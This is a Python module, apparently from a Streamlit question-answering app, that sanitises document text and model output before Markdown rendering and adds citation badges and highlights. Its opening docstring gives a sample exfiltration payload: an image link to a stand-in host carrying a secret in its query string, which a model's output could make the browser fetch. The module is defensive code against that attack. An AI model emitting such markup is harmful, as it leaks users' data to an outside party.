"""Text for Streamlit's Markdown, made safe: document text and model output are shown as text.

Streamlit never renders HTML in ``st.markdown`` without ``unsafe_allow_html`` (which this app
never passes), but Markdown itself can still do harm: a model or a document can write
``![x](http://host/?q=secret)`` (an image the browser fetches) or Streamlit directives such as
``:red[...]``. Document text is escaped completely; model output keeps emphasis and lists but
loses links, images, HTML and directives. Only then are our own ``[n]`` badges and highlights
added. No Streamlit import here: these are pure functions, tested directly.
"""

from __future__ import annotations

import math
import re
from collections.abc import Iterable

_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$:])")
_MODEL_SPECIAL = re.compile(r"([\\\[\]<>$!:|])")
# Where GFM's autolink literals start: before "://" of http(s), the dot after "www", an "@".
_AUTOLINK = re.compile(r"(?i)(?<=http)(?=://)|(?<=https)(?=://)|(?<=www)(?=\.)|(?=@)")
WORD_JOINER = "\u2060"
_CITATION = re.compile(r"\\\[(\d{1,3})\\\]")
_SENTENCE_END = re.compile(r"(?<=[.!?])\s+(?=[A-Z0-9\"'(\[])")
_WORD = re.compile(r"[a-z0-9]+")
_STOPWORD_TEXT = (
    "a an the and or of to in on for with by is are was were be been it its this that these "
    "those as at from what which who how why when does do did can could should would not no "
    "about into than then there their they them you your we our i me my"
)
_STOPWORDS = frozenset(_STOPWORD_TEXT.split())

BADGE_COLOUR = "blue"


def unlink(text: str) -> str:
    """Text in which Streamlit's Markdown finds no bare URL or e-mail address to turn into a link.

    GitHub-flavoured Markdown links ``http://…``, ``www.…`` and ``name@host.tld`` found in the
    *parsed* text, so escaping does not stop it; an invisible word joiner (U+2060) does.
    """
    return _AUTOLINK.sub(WORD_JOINER, text)


def escape_markdown(text: str) -> str:
    """Document text shown as literal text: no Markdown, link, directive or HTML is rendered."""
    return _MD_SPECIAL.sub(r"\\\1", unlink(text))


def message_markdown(text: str) -> str:
    """One of our own messages (errors, hints): `code` spans stay, everything else is literal.

    Messages can quote file names and hosts, which come from outside.
    """
    parts = re.split(r"(`[^`\n]+`)", text)
    return "".join(p if p.startswith("`") and p.endswith("`") and len(p) > 1
                   else escape_markdown(p) for p in parts)


def citation_badge(n: int) -> str:
    return f":{BADGE_COLOUR}-badge[{n}]"


def answer_markdown(text: str, numbers: Iterable[int]) -> str:
    """Model output as Markdown: ``[n]`` of a given source becomes the badge that source wears.

    Links, images, HTML and directives are neutralised; a marker of a source that does not
    exist stays literal text.
    """
    valid = set(numbers)
    safe = _MODEL_SPECIAL.sub(r"\\\1", unlink(text))

    def badge(m: re.Match[str]) -> str:
        n = int(m.group(1))
        return citation_badge(n) if n in valid else m.group(0)

    return _CITATION.sub(badge, safe)


def split_sentences(text: str) -> list[str]:
    flat = " ".join(text.split())
    return [s for s in _SENTENCE_END.split(flat) if s]


def _terms(text: str) -> set[str]:
    return {w for w in _WORD.findall(text.lower()) if w not in _STOPWORDS and len(w) > 1}


def best_sentence(text: str, query: str) -> int | None:
    """Index of the sentence of ``text`` sharing the most words with ``query`` (None: none does)."""
    wanted = _terms(query)
    best, best_score = None, 0.0
    for i, sentence in enumerate(split_sentences(text)):
        terms = _terms(sentence)
        if not terms:
            continue
        score = len(terms & wanted) / math.sqrt(len(terms))
        if score > best_score:
            best, best_score = i, score
    return best


def highlighted_snippet(text: str, query: str, *, limit: int = 700) -> str:
    """The chunk as escaped Markdown with its best-matching sentence highlighted.

    Long chunks are cut around that sentence to about ``limit`` characters.
    """
    sentences = split_sentences(text)
    if not sentences:
        return ""
    best = best_sentence(text, query)
    lo = hi = best if best is not None else 0
    length = len(sentences[lo])
    while length < limit and (lo > 0 or hi < len(sentences) - 1):
        if hi < len(sentences) - 1:
            hi += 1
            length += len(sentences[hi]) + 1
        if length < limit and lo > 0:
            lo -= 1
            length += len(sentences[lo]) + 1
    parts = []
    for i in range(lo, hi + 1):
        sentence = sentences[i]
        if len(sentence) > limit:
            sentence = sentence[:limit].rstrip() + "…"
        escaped = escape_markdown(sentence)
        parts.append(f":orange-background[{escaped}]" if i == best else escaped)
    prefix = "… " if lo > 0 else ""
    suffix = " …" if hi < len(sentences) - 1 else ""
    return prefix + " ".join(parts) + suffix


def short(text: str, limit: int = 160) -> str:
    flat = " ".join(text.split())
    return flat if len(flat) <= limit else flat[: limit - 1].rstrip() + "…"
